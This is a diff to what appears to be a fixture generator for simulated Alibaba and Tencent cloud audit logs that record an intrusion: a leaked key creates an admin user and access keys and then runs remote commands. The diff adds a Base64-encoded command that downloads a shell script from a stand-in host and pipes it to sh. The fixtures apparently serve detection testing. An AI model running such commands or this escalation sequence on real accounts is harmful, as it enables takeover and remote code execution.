@@ -472,7 +472,7 @@ def actiontrail():
         action(leaked, 15, 0, "Ram.CreateUser", INTRUDER, ALIBABA_SDK, {"UserName": HELPER}, referencedResources={"ACS::RAM::User": [HELPER]}),
         action(leaked, 15, 20, "Ram.AttachPolicyToUser", INTRUDER, ALIBABA_SDK, {"PolicyName": "AdministratorAccess", "PolicyType": "System", "UserName": HELPER}),
         action(leaked, 15, 41, "Ram.CreateAccessKey", INTRUDER, ALIBABA_SDK, {"UserName": HELPER}),
-        action(planted, 20, 5, "Ecs.RunCommand", INTRUDER, ALIBABA_SDK, {"RegionId": "cn-hangzhou", "Type": "RunShellScript", "InstanceId.1": "i-bp1example0000000001"}),
+        action(planted, 20, 5, "Ecs.RunCommand", INTRUDER, ALIBABA_SDK, {"RegionId": "cn-hangzhou", "Type": "RunShellScript", "InstanceId.1": "i-bp1example0000000001", "ContentEncoding": "Base64", "CommandContent": "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy9iLnNoIHwgc2g="}),
     ]
     stamp = f"{NIGHT.replace('-', '')}033000"
     path = f"actiontrail/AliyunLogs/Actiontrail/cn-hangzhou/{NIGHT.replace('-', '/')}/Actiontrail_cn-hangzhou_{stamp}_1002_8_0.gz"
@@ -509,7 +509,7 @@ def cloudaudit():
         audit(key, 11, 0, "cvm.DescribeInstances", BILLING, {"Limit": 100}),
         audit(key, 31, 40, "cam.ListAccessKeys", INTRUDER, {"TargetUin": 100000000012}),
         audit(key, 32, 4, "cam.CreateAccessKey", INTRUDER, {"TargetUin": 100000000012}, sensitiveAction="1"),
-        audit(key, 33, 18, "tat.RunCommand", INTRUDER, {"InstanceIds": ["ins-example1"]}, apiErrorCode="UnauthorizedOperation.CamNoAuth", apiErrorMessage="not authorized"),
+        audit(key, 33, 18, "tat.RunCommand", INTRUDER, {"InstanceIds": ["ins-example1"], "Content": "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy9iLnNoIHwgc2g="}, apiErrorCode="UnauthorizedOperation.CamNoAuth", apiErrorMessage="not authorized"),
     ]
     yield "cloudaudit/tracking-set/2026100711/cloudaudit.gz", "".join(compact(record) + "\n" for record in records)
     rows = [
